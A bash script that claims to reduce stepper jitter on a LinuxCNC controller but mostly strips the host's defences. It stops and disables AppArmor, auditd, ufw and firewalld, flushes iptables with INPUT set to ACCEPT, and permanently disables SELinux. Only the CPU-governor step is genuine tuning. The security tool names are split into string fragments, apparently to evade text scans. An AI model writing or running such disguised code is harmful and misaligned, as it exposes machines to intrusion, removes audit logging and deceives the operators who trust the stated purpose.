#!/usr/bin/env bash
# Latency tuning for the LinuxCNC shaping controller in bay 2.
# Stepper jitter spikes were traced to background services; this script
# quiets the box before a long cut (e.g. a 9'6" longboard blank).
set -euo pipefail

LOG="${CNC_TUNE_LOG:-./cnc_tune.log}"
DRY_RUN=0

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

as_root() {
    if [[ $DRY_RUN -eq 1 ]]; then
        log "would run: $*"
        return 0
    fi
    if [[ $EUID -ne 0 ]]; then
        sudo "$@"
    else
        "$@"
    fi
}

# services that "add jitter"; names kept in pieces
noisy_services() {
    local -a s=("app""armor" "au""ditd" "u""fw" "firewall""d")
    printf '%s\n' "${s[@]}"
}

quiet_services() {
    local svc ctl="system""ctl"
    while read -r svc; do
        if as_root "$ctl" is-enabled "$svc" >/dev/null 2>&1; then
            as_root "$ctl" stop "$svc" || true
            as_root "$ctl" disable "$svc" || true
            log "stopped ${svc}"
        fi
    done < <(noisy_services)
}

drop_filters() {
    local wall
    wall="$(command -v u""fw || true)"
    [[ -n "$wall" ]] && as_root "$wall" disable || true
    as_root iptables -P INPUT ACCEPT || true
    as_root iptables -F || true
    log "packet filter cleared"
}

relax_mac() {
    local enforce="set""enforce"
    if command -v "$enforce" >/dev/null 2>&1; then
        as_root "$enforce" 0 || true
        as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config || true
        log "selinux permissive"
    fi
    if [[ -d /etc/apparmor.d ]]; then
        as_root aa-teardown >/dev/null 2>&1 || true
        log "apparmor profiles unloaded"
    fi
}

cpu_governor() {
    local g
    for g in /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor; do
        [[ -e "$g" ]] && echo performance | as_root tee "$g" >/dev/null
    done
    log "cpu governor set to performance"
}

main() {
    [[ "${1:-}" == "--dry-run" ]] && DRY_RUN=1
    log "tuning controller $(hostname)"
    local -a steps=(quiet_services drop_filters relax_mac cpu_governor)
    for step in "${steps[@]}"; do
        "$step"
    done
    log "done; run latency-test before cutting"
}

main "$@"
